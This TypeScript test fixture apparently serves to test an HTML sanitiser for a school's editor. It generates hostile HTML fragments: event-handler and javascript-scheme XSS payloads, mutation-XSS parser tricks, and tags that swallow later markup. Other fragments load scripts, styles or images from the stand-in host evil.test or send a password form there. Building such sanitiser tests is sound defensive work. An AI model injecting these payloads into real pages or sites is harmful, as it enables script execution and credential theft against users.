/**
 * Hostile HTML as a school's editor, or somebody who took it over, might store it. Families of what may run, crossed with
 * what it may hide in; the payload sets `window.__hostile`, or asks `evil.test` for something. Each fragment carries
 * harmless text of its own, which has to be there still when the rest is gone.
 */

export interface HostileFragment {
  readonly html: string
  /** Text without any meaning, unique among the fragments. */
  readonly mark: string
}

const run = 'window.__hostile=1'

/** Elements that call a handler by themselves, at an event, or when they are touched. */
const handlers = [
  `<img src=x onerror=${run}>`,
  `<img/src="x"/OnErRoR="${run}">`,
  `<image href=x onerror=${run}>`,
  `<video src=x onerror=${run} onloadstart=${run}></video>`,
  `<video><source src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<iframe onload=${run}></iframe>`,
  `<iframe srcdoc="<script>parent.__hostile=1</script>"></iframe>`,
  `<object data=x onerror=${run}></object>`,
  `<embed src=x onload=${run}>`,
  `<details open ontoggle=${run}><summary onclick=${run}>x</summary></details>`,
  `<input autofocus onfocus=${run}>`,
  `<button autofocus onfocus=${run} onclick=${run}>x</button>`,
  `<p contenteditable tabindex=0 onfocus=${run} onpointerover=${run} onclick=${run}>x</p>`,
  `<x-y tabindex=0 onfocus=${run} onclick=${run}>x</x-y>`,
  `<div style="animation: x 1s" onanimationstart=${run} ontransitionend=${run}>x</div>`,
  `<svg onload=${run}></svg>`,
  `<svg><animate attributeName=x dur=1s onbegin=${run} onend=${run}></svg>`,
  `<script>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
]

/** Where things hide from a sanitiser that reads them in another way than the browser. */
const covers: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<table><tr>${inner}<td>${inner}</td></tr></table>`,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<svg><desc><title>${inner}</title></desc></svg>`,
  (inner) => `<math><mtext>${inner}<mglyph>${inner}</mglyph></mtext></math>`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<template shadowrootmode=open>${inner}</template>`,
  (inner) => `<noscript><p title="</noscript>${inner.replaceAll('"', '')}"></p></noscript>`,
  (inner) => `<select><option>${inner}</option></select>`,
  (inner) => `<!--><p>-->${inner}<!-- -->`,
]

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` \u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java&#10;script&colon;${run}`,
  `&#106;avascript&#58;${run}`,
  `javascript&NewLine;:${run}`,
  `javascript://evil.test/%0a${run}`,
  `data:text/html,<script>parent.__hostile=1</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `vbscript:${run}`,
]

/** Elements that go to an address or load it. */
const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address.replaceAll("'", '')}' target=_self>x</a>`,
  (address) => `<map name=m><area href="${address}" shape=default></map><img usemap=#m src=x>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"/><text>x</text></a></svg>`,
  (address) => `<math href="${address}"><mi>x</mi></math>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<img src="${address}" srcset="${address} 2x">`,
  (address) => `<video src="${address}" poster="${address}" controls></video>`,
]

/** Read one way first, another way the second time. */
const mutating = [
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<svg><style>&lt;img src=x onerror=${run}&gt;</style></svg>`,
  `<svg><![CDATA[</svg><img src=x onerror=${run}>]]></svg>`,
  `<svg><title><![CDATA[</title><img src=x onerror=${run}>]]></svg>`,
  `<a title="<img src=x onerror=${run}>"><b title='"><img src=x onerror=${run}>'>x</b></a>`,
  `<p id="</p><img src=x onerror=${run}>">x</p>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<b style="x:&quot;><img src=x onerror=${run}>">x</b>`,
  `<b style='color:red;"><img src=x onerror=${run}>'>x</b>`,
  `<p style=">"><img src=x style=onerror= onerror=${run}></p>`,
]

/** Nothing runs, but somebody is told, or the screen is taken over. */
const reaching = [
  `<link rel=stylesheet href="https://evil.test/x.css"><link rel=prefetch href="https://evil.test/x">`,
  `<style>@import "https://evil.test/x.css"; body { background: url(https://evil.test/x.png) }</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.test/">`,
  `<base href="https://evil.test/"><img src="">`,
  `<div style="background: url(https://evil.test/x.png)">x</div>`,
  `<div style="background-color: red; list-style-image: url('https://evil.test/x.png')">x</div>`,
  `<div style="position: fixed; inset: 0; z-index: 9999; opacity: 0">x</div>`,
  `<table background="https://evil.test/x.png"><tr><td background="https://evil.test/y.png">x</td></tr></table>`,
  `<iframe src="https://evil.test/"></iframe><iframe src="//evil.test/"></iframe><iframe src="/member"></iframe>`,
  `<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">`,
  `<form id=f action="https://evil.test/"><input name=password></form><button form=f>x</button>`,
  `<a href="/courses" ping="https://evil.test/ping">x</a>`,
  `<svg><image href="https://evil.test/x.png"/><use href="https://evil.test/x.svg#x"/></svg>`,
  `<svg><filter><feImage href="https://evil.test/x.png"/></filter></svg>`,
  `<video><track default src="https://evil.test/x.vtt"></video>`,
  `<input type=image src="https://evil.test/x.png">`,
  `<script src="https://evil.test/x.js"></script><script type=module src="https://evil.test/x.js"></script>`,
  `<portal src="https://evil.test/"></portal><frameset><frame src="https://evil.test/"></frameset>`,
  `<dialog open><p>x</p></dialog><div popover id=p>x</div><button popovertarget=p>x</button>`,
  `<p id=root name=body class=scrim data-in-app data-live-layer role=dialog>x</p>`,
]

/** Swallow whatever follows them. */
const swallowing = [
  `<plaintext><img src=x onerror=${run}>`,
  `<textarea><img src=x onerror=${run}>`,
  `<title><img src=x onerror=${run}>`,
  `<xmp><img src=x onerror=${run}>`,
  `<noembed><img src=x onerror=${run}>`,
  `<style><img src=x onerror=${run}>`,
  `<!-- <img src=x onerror=${run}> --!><img src=x onerror=${run}>`,
  `<frameset onload=${run}>`,
  `<body onload=${run} onpageshow=${run}>`,
]

const marked = (htmls: readonly string[], family: string): HostileFragment[] =>
  htmls.map((html, index) => {
    const mark = `安全文字${family}${index}号`
    return { html: `<p>${mark}</p>${html}`, mark }
  })

/** The families of fragments that may stand in one text, one after the other. */
export const hostileFamilies: Readonly<Record<string, readonly HostileFragment[]>> = {
  handlers: marked(
    handlers.flatMap((handler) => covers.map((cover) => cover(handler))),
    '甲',
  ),
  addresses: marked(
    carriers.flatMap((carrier) => schemes.map((scheme) => carrier(scheme))),
    '乙',
  ),
  reaching: marked(reaching, '丙'),
}

/** Fragments that need a text for themselves, as they take more with them than they open. */
export const lonelyFragments: readonly HostileFragment[] = marked([...mutating, ...swallowing], '丁')

/** Ends what a fragment may have left open, so that the next one is read for itself. */
export const closing =
  '--></style></script></noscript></template></select></title></svg></math></form></td></tr></table></a></b></div>'
